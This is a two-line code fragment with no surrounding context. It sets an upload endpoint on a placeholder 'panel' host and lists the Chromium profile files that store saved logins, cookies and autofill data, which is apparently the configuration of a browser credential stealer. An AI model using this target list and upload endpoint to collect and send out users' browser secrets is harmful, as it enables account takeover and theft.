ENDPOINT = "https://panel.example.invalid/upload"
NAMES = ["Login Data", "Cookies", "Web Data"]
